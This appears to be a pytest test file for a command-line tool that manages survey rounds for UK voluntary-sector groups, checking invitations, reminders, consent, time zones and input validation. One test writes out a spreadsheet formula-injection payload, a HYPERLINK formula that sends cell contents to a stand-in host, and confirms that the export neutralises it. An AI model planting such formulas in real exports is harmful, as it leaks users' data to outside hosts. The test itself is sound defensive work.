"""`tempcheck rounds`: a round's life from the command line; bad input changes nothing."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from collector import models
from collector.models import utcnow
from collector.spreadsheets import FORMULA_STARTS
from collector.volunteering import followups
from tests.collector.conftest import Run
from tests.factories import make_organisation, make_placement, make_provider, make_volunteer

LONDON = ZoneInfo("Europe/London")
BASE = "http://localhost:5000"


@pytest.fixture
def world(session_factory: sessionmaker[Session]) -> dict[str, Any]:
    """Harlow CVS with five groups: three community groups (one opted out, one without email
    consent) and two faith groups in Old Harlow; and an empty Brentwood CVS."""
    with session_factory() as session, session.begin():
        harlow = make_provider(session, slug="harlow-cvs", name="Harlow CVS")
        make_provider(session, slug="brentwood-cvs", name="Brentwood CVS")
        made = [
            make_organisation(session, harlow, external_ref="H1", name="Harlow Foodbank"),
            make_organisation(session, harlow, external_ref="H2", name="Harlow Men's Shed"),
            make_organisation(
                session, harlow, external_ref="H3", name="Café Club", consent_email=False
            ),
            make_organisation(
                session, harlow, external_ref="H4", name="Gone Away", opted_out_at=utcnow()
            ),
            make_organisation(
                session,
                harlow,
                external_ref="F1",
                name="St Mary's",
                org_type="faith_group",
                district="Old Harlow",
            ),
            make_organisation(
                session,
                harlow,
                external_ref="F2",
                name="Mosque Lunch Club",
                org_type="faith_group",
                district="Old Harlow",
                is_member=False,
            ),
        ]
        return {
            "provider_id": harlow.id,
            "orgs": {o.external_ref: o.id for o in made},
            "emails": {o.external_ref: o.contact_email for o in made},
        }


def _today() -> date:
    return datetime.now(LONDON).date()


def _create(run: Run, *extra: str, opens: date | None = None, days: int = 30) -> Any:
    opens = opens or _today()
    return run(
        "rounds", "create", "--provider", "harlow-cvs", "--survey", "cvs-support",
        "--period", "2026/27 H1", "--opens", opens.isoformat(),
        "--closes", (opens + timedelta(days=days)).isoformat(), *extra,
    )  # fmt: skip


def _count(factory: sessionmaker[Session], model: type, *where: Any) -> int:
    with factory() as session:
        return int(session.scalar(select(func.count()).select_from(model).where(*where)) or 0)


def _actions(factory: sessionmaker[Session]) -> list[str]:
    with factory() as session:
        return list(
            session.scalars(select(models.AuditEvent.action).order_by(models.AuditEvent.id))
        )


def test_a_round_from_create_to_close(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    created = _create(run, "--open-link", "--remind-days", "7,14")
    assert created.exit_code == 0, created.output
    assert "Created round 1 (draft): Harlow CVS, cvs-support v2, 2026/27 H1" in created.output
    assert "5 organisations today" in created.output  # the opted-out group is left out
    assert "Open it with `tempcheck rounds open 1`." in created.output
    with session_factory() as session:
        round_ = session.get(models.Round, 1)
        assert round_ is not None and round_.status == "draft" and round_.open_link
        assert [r.due_at - round_.opens_at for r in round_.reminders] == [
            timedelta(days=7),
            timedelta(days=14),
        ]
        slug = round_.slug
    assert f"open link: {BASE}/s/{slug}" in created.output
    assert _count(session_factory, models.OutboxMessage) == 0

    opened = run("rounds", "open", "1")
    assert opened.exit_code == 0, opened.output
    # Five invited, four emails: the café club did not agree to email.
    assert (
        "Opened round 1: 5 invitations, 4 emails queued; run `tempcheck dispatch` to send them"
        in opened.output
    )
    assert "1 organisations have no address they agreed to be reached at" in opened.output
    assert _count(session_factory, models.Invitation) == 5
    assert (
        _count(session_factory, models.OutboxMessage, models.OutboxMessage.template == "invite")
        == 4
    )

    # One group answers; the reminder goes to the other three with an email address.
    with session_factory() as session, session.begin():
        invitation = session.scalar(
            select(models.Invitation).where(
                models.Invitation.organisation_id == world["orgs"]["H1"]
            )
        )
        assert invitation is not None
        session.add(
            models.Response(
                round_id=1, invitation_id=invitation.id, status="completed", channel="web"
            )
        )
    # The invitations were queued a moment ago: a reminder now is refused, saying when...
    too_soon = run("rounds", "remind", "1")
    assert too_soon.exit_code == 1, too_soon.output
    assert "The last invitation or reminder to those who have not answered went out" in (
        too_soon.output
    )
    assert "reminders are kept at least 1 day apart. Add --force to send it anyway." in (
        too_soon.output
    )
    assert (
        _count(session_factory, models.OutboxMessage, models.OutboxMessage.template == "reminder")
        == 0
    )
    # ...and sent when staff mean it.
    reminded = run("rounds", "remind", "1", "--force")
    assert reminded.exit_code == 0, reminded.output
    assert "Reminded round 1: 3 emails queued to the 4 organisations" in reminded.output
    reminders = select(models.OutboxMessage.recipient).where(
        models.OutboxMessage.template == "reminder"
    )
    with session_factory() as session:
        assert sorted(session.scalars(reminders)) == sorted(
            world["emails"][ref] for ref in ("H2", "F1", "F2")
        )

    status = run("rounds", "status", "1", "--non-responders")
    assert status.exit_code == 0, status.output
    lines = status.output.splitlines()
    assert lines[0] == "Round 1: Harlow CVS, cvs-support v2, 2026/27 H1 (open)"
    totals = lines.index("invited  started  completed  response rate")
    assert lines[totals + 1].split() == ["5", "1", "1", "20%"]
    assert any(line.split() == ["community_group", "3", "1", "1", "33%"] for line in lines)
    assert any(line.split() == ["faith_group", "2", "0", "0", "0%"] for line in lines)
    assert any(line.split() == ["web", "1"] for line in lines)
    assert any(line.split() == ["pending", "7"] for line in lines)
    assert "Not yet completed: 4 organisations (0 started)" in status.output
    for name in ("Harlow Men's Shed", "Café Club", "St Mary's", "Mosque Lunch Club"):
        assert name in status.output
    assert "Gone Away" not in status.output and "Harlow Foodbank  " not in status.output

    links = run("rounds", "links", "1")
    assert links.exit_code == 0, links.output
    rows = list(csv.DictReader(links.output.splitlines()))
    assert [r["external_ref"] for r in rows] == ["F1", "F2", "H1", "H2", "H3"]
    with session_factory() as session:
        tokens = dict(
            session.execute(
                select(models.Organisation.external_ref, models.Invitation.token).join(
                    models.Organisation
                )
            ).all()
        )
    for row in rows:
        assert row["link"] == f"{BASE}/r/{tokens[row['external_ref']]}"
    assert rows[4]["organisation"] == "Café Club"

    closed = run("rounds", "close", "1")
    assert closed.exit_code == 0, closed.output
    assert "Closed round 1: 1 of 5 invited completed (20%); 7 unsent messages cancelled." in (
        closed.output
    )
    assert (
        _count(session_factory, models.OutboxMessage, models.OutboxMessage.status == "pending") == 0
    )
    assert _actions(session_factory) == [
        "round.create",
        "round.open",
        "round.remind",
        "round.export_links",
        "round.close",
        "report.publish",  # closing publishes the round's reports (nobody funds Harlow here)
    ]
    assert "Published 2 reports; no funder of this provider has an account" in closed.output
    row = run("rounds", "list").output.splitlines()[1].split()
    assert row[:7] == ["1", "harlow-cvs", "cvs-support", "v2", "2026/27", "H1", "closed"]
    assert row[-3:] == ["5", "1", "20%"]
    # Closed before its close date: the day it closed, said to be early (issue 12, item 14).
    assert row[7:10] == [_today().isoformat(), _today().isoformat(), "(early)"]
    status = run("rounds", "status", "1").output
    planned = (_today() + timedelta(days=30)).isoformat()
    assert f", closed early {_today().isoformat()} " in status
    assert f"(due to close {planned} 23:59) (UK time)" in status


def test_dates_are_uk_days_stored_in_utc(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    # 1 July is in British Summer Time (UTC+1), 16 December in GMT.
    result = run(
        "rounds", "create", "--provider", "harlow-cvs", "--survey", "cvs-support:2",
        "--period", "2030/31 H1", "--opens", "2030-07-01", "--closes", "2030-12-16",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "opens 2030-07-01 00:00, closes 2030-12-16 23:59 (UK time)" in result.output
    with session_factory() as session:
        round_ = session.get(models.Round, 1)
        assert round_ is not None
        assert round_.opens_at == datetime(2030, 6, 30, 23, 0, tzinfo=UTC)
        assert round_.closes_at == datetime(2030, 12, 16, 23, 59, tzinfo=UTC)
    opened = run("rounds", "open", "1")
    assert "They go out from 2030-07-01 00:00, when the round opens." in opened.output
    with session_factory() as session:
        due = session.scalars(select(models.OutboxMessage.next_attempt_at)).all()
        assert due and set(due) == {datetime(2030, 6, 30, 23, 0, tzinfo=UTC)}


def test_an_audience_filter_invites_only_the_groups_it_matches(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    created = _create(
        run, "--audience", "org_type=Faith group", "--audience", "district=old harlow,Old Harlow",
        "--audience", "is_member=yes",
    )  # fmt: skip
    assert created.exit_code == 0, created.output
    assert (
        "audience: org_type is faith_group, and district is Old Harlow, and members only; "
        "1 organisations today" in created.output
    )
    with session_factory() as session:
        round_ = session.get(models.Round, 1)
        assert round_ is not None
        assert round_.audience == {
            "org_type": ["faith_group"],
            "district": ["Old Harlow"],
            "is_member": [True],
        }
    assert "1 invitations" in run("rounds", "open", "1").output
    with session_factory() as session:
        [invited] = session.scalars(select(models.Invitation.organisation_id)).all()
    assert invited == world["orgs"]["F1"]


def _today_plus(days: int) -> str:
    return (_today() + timedelta(days=days)).isoformat()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"--opens": _today_plus(10), "--closes": _today_plus(5)},
         "The close date must be after the open date"),
        ({"--opens": "2026-13-01"}, "--opens '2026-13-01' is not a date: write it as YYYY-MM-DD"),
        ({"--closes": "next week"}, "--closes 'next week' is not a date"),
        ({"--opens": "2020-01-01", "--closes": "2020-02-01"},
         "The close date 2020-02-01 has passed"),
        ({"--provider": "nowhere"},
         "No provider called 'nowhere': known providers are brentwood-cvs, harlow-cvs"),
        ({"--survey": "no-such-survey"}, "No survey called 'no-such-survey': the built-in ones"),
        ({"--survey": "cvs-support:9"}, "No version 9 of cvs-support: the built-in one is"),
        ({"--survey": "cvs-support:new"}, "the version after ':' is a whole number"),
        ({"--period": "  "}, "Give the round a period label, like 2026/27 H1"),
        ({"--audience": "colour=red"}, "Unknown audience filter 'colour': use one of org_type"),
        ({"--audience": "org_type=pub"}, "Unknown org_type 'pub' for the audience: use one of"),
        ({"--audience": "district=Essex"},
         "Unknown district 'Essex' for the audience: use one of Harlow, Old Harlow"),
        ({"--audience": "income_band"}, "write it as KEY=VALUE[,VALUE...]"),
        ({"--audience": "is_member=yes,no"}, "is_member takes one value: yes"),
        ({"--channel": "fax"}, "Unknown channel: fax"),
        ({"--remind-days": "7,soon"}, "--remind-days '7,soon': give whole numbers of days"),
        ({"--remind-days": "45"}, "A reminder 45 days after opening is not between the open"),
    ],
)  # fmt: skip
def test_create_refuses_bad_input_and_saves_nothing(
    run: Run,
    world: dict[str, Any],
    session_factory: sessionmaker[Session],
    change: dict[str, str],
    message: str,
) -> None:
    options = {
        "--provider": "harlow-cvs",
        "--survey": "cvs-support",
        "--period": "2026/27 H1",
        "--opens": _today_plus(0),
        "--closes": _today_plus(30),
    }
    options.update(change)
    result = run("rounds", "create", *[part for pair in options.items() for part in pair])
    assert result.exit_code == 1, result.output
    assert message in result.output
    assert "Traceback" not in result.output
    assert _count(session_factory, models.Round) == 0
    assert _count(session_factory, models.Survey) == 0  # the registration rolled back too
    assert _actions(session_factory) == []


def test_commands_refuse_a_round_in_the_wrong_status_and_change_nothing(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    assert _create(run).exit_code == 0
    for args, message in [
        (("close", "1"), "Round 1 is draft, not open"),
        (("remind", "1"), "Round 1 is draft: only an open round can be reminded"),
        (("links", "1"), "Round 1 is a draft: its invitations are made when it opens"),
        (("open", "7"), "No round 7 (see `tempcheck rounds list`)"),
        (("status", "7"), "No round 7"),
    ]:
        result = run("rounds", *args)
        assert result.exit_code == 1 and message in result.output, (args, result.output)
    assert run("rounds", "open", "1").exit_code == 0
    assert run("rounds", "close", "1").exit_code == 0
    before = _count(session_factory, models.OutboxMessage)
    for args, message in [
        (("open", "1"), "Round 1 is closed, not a draft"),
        (("close", "1"), "Round 1 is closed, not open"),
        (("remind", "1"), "Round 1 is closed: only an open round can be reminded"),
        (("links", "1"), "Round 1 is closed: its links no longer take answers"),
    ]:
        result = run("rounds", *args)
        assert result.exit_code == 1 and message in result.output, (args, result.output)
    assert _count(session_factory, models.OutboxMessage) == before
    assert _count(session_factory, models.RoundReminder) == 0
    assert _actions(session_factory) == ["round.create", "round.open", "round.close"]


def test_a_round_of_a_survey_already_open_for_the_same_groups_needs_force(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    assert _create(run, "--audience", "org_type=faith_group").exit_code == 0
    assert run("rounds", "open", "1").exit_code == 0

    result = _create(run)

    assert result.exit_code == 1, result.output
    assert "cvs-support is already running for some of these organisations:" in result.output
    assert "Round 1 (2026/27 H1) of Support from your CVS is open until" in result.output
    assert "already invited 2 of these groups: they would get a second invitation" in (
        result.output
    )
    assert "Add --force to create the round anyway." in result.output
    assert "Traceback" not in result.output
    assert _count(session_factory, models.Round) == 1
    # Another survey, or the same one for other groups, is no overlap; --force goes ahead.
    assert _create(run, "--audience", "org_type=community_group").exit_code == 0
    forced = _create(run, "--force")
    assert forced.exit_code == 0, forced.output
    assert _count(session_factory, models.Round) == 3


def test_remind_with_everyone_answered_sends_nothing(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    _create(run, "--audience", "org_type=faith_group")
    run("rounds", "open", "1")
    with session_factory() as session, session.begin():
        for invitation in session.scalars(select(models.Invitation)):
            session.add(
                models.Response(
                    round_id=1, invitation_id=invitation.id, status="completed", channel="web"
                )
            )
    result = run("rounds", "remind", "1")
    assert result.exit_code == 0
    assert "Every organisation invited to round 1 has completed: no reminder." in result.output
    assert _count(session_factory, models.RoundReminder) == 0
    assert "round.remind" not in _actions(session_factory)


def test_links_to_a_file_never_overwrite_without_force(
    run: Run, world: dict[str, Any], tmp_path: Path
) -> None:
    _create(run)
    run("rounds", "open", "1")
    target = tmp_path / "links.csv"
    written = run("rounds", "links", "1", "--output", str(target))
    assert written.exit_code == 0 and f"Wrote 5 links for round 1 to {target}." in written.output
    text = target.read_text(encoding="utf-8-sig")
    assert text.splitlines()[0] == "external_ref,organisation,contact_email,link,telegram_link"
    assert len(text.splitlines()) == 6 and "Café Club" in text
    target.write_text("keep me")
    refused = run("rounds", "links", "1", "--output", str(target))
    assert (
        refused.exit_code == 1
        and "already exists" in refused.output
        and "--force" in (refused.output)
    )
    assert target.read_text() == "keep me"
    forced = run("rounds", "links", "1", "--output", str(target), "--force")
    assert forced.exit_code == 0 and "Café Club" in target.read_text(encoding="utf-8-sig")


def test_list_filters_by_provider(run: Run, world: dict[str, Any]) -> None:
    _create(run)
    assert "harlow-cvs" in run("rounds", "list", "--provider", "harlow-cvs").output
    other = run("rounds", "list", "--provider", "brentwood-cvs")
    assert other.exit_code == 0 and "(none)" in other.output and "harlow-cvs" not in other.output
    unknown = run("rounds", "list", "--provider", "nowhere")
    assert unknown.exit_code == 1 and "No provider called 'nowhere'" in unknown.output


def test_links_never_hand_a_spreadsheet_a_formula(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    _create(run)
    run("rounds", "open", "1")
    with session_factory() as session, session.begin():
        group = session.scalars(
            select(models.Organisation).where(models.Organisation.external_ref == "H1")
        ).one()
        group.name = hostile
    target = tmp_path / "links.csv"
    assert run("rounds", "links", "1", "--output", str(target)).exit_code == 0
    for text in (target.read_text(encoding="utf-8-sig"), run("rounds", "links", "1").output):
        rows = list(csv.DictReader(text.splitlines()))
        assert [r["organisation"] for r in rows if r["external_ref"] == "H1"] == ["'" + hostile]
        assert not [c for r in rows for c in r.values() if c.startswith(FORMULA_STARTS)]


def test_links_of_a_volunteers_follow_up_round_list_its_volunteers(
    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session]
) -> None:
    with session_factory() as session, session.begin():
        harlow = session.scalars(
            select(models.Provider).where(models.Provider.slug == "harlow-cvs")
        ).one()
        asked = make_placement(session, harlow, make_volunteer(session, harlow, name="Priya Shah"))
        gone = make_placement(session, harlow, make_volunteer(session, harlow, name="Gone"))
        for placement in (asked, gone):
            followups.follow_up(session, placement)
        gone.volunteer.opted_out_at = utcnow()
        invitation = session.scalars(
            select(models.Invitation).where(models.Invitation.volunteer_id == asked.volunteer_id)
        ).one()
        round_id, token = invitation.round_id, invitation.token
        ref, email = asked.volunteer.external_ref, asked.volunteer.contact_email

    result = run("rounds", "links", str(round_id))

    assert result.exit_code == 0, result.output
    assert list(csv.reader(result.output.splitlines())) == [
        ["external_ref", "volunteer", "contact_email", "link", "telegram_link"],
        [ref, "Priya Shah", email, f"http://localhost:5000/r/{token}", ""],
    ]
